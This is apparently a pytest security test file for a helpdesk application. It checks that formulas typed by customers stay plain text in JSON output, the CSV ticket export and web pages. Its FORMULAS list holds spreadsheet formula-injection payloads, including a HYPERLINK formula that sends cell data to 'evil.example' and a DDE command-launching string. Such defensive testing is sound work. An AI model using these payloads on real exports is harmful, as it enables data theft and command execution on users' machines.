"""A formula that a customer types is a text wherever the desk gives it out: on pages, in its table, in JSON."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from helpdesk_lite import cli
from helpdesk_lite.web.app import ROUTES
from tests.access.browser import Browser
from tests.security.conftest import FIELDS, TEXTS, delivered, number_in, post, signed_in

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example?x="&A1,"zqxkw")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    '","=1+1","',
    "a;=1+1",
]
KINDS = ("text/html", "text/css", "text/javascript", "image/svg+xml")
# Whoever adds to these must see to formulas there, too. A form's file has nothing in it that a customer wrote.
TAKEN_ALONG = ("/tickets.csv", "/tickets.json", "/administration/forms/{name}/file")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_stays_a_text(house: Any, browser: Browser, capsys: Any, formula: str) -> None:
    number = number_in(post(browser, {**FIELDS, **dict.fromkeys(TEXTS, formula)}))
    for command in (("list", "--json"), ("show", number, "--json")):
        assert cli.main(["--root", house.root.path, *command]) == 0
        told = json.loads(capsys.readouterr().out)
        found = told if isinstance(told, dict) else told[0]
        assert found["subject"] == formula.strip().lstrip("-")
    assert told["fields"]["more"] == [formula]
    signed_in(house, "ines").post(f"/tickets/{number}/claim")
    for found in delivered(house):
        parts = {part.get_content_type() for part in found.read.walk()}
        assert parts == {"multipart/alternative", "text/plain", "text/html"}


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_table_of_tickets_computes_nothing(house: Any, browser: Browser, formula: str) -> None:
    number = number_in(post(browser, {**FIELDS, **dict.fromkeys(TEXTS, formula)}))
    answer = signed_in(house, "ines").get("/tickets.csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert [row for row in rows if number in row]
    assert [cell for row in rows for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@", "＝")] == []


def test_no_other_page_is_a_table(house: Any, browser: Browser) -> None:
    number = number_in(post(browser, {**FIELDS, "subject": FORMULAS[0]}))
    ada = signed_in(house, "ada")
    ada.post(f"/tickets/{number}/claim")
    known = {"name": "all", "number": number}
    for path in [route.path for route in ROUTES if route.method == "GET" and route.path not in TAKEN_ALONG]:
        for part, value in known.items():
            path = path.replace(f"{{{part}}}", "style.css" if path.startswith("/static") else value)
        for query in ("", "?format=csv", "?download=1"):
            answer = ada.get(path + query)
            assert answer.headers["content-type"].partition(";")[0] in KINDS or answer.status in (303, 304), path
            assert "content-disposition" not in answer.headers
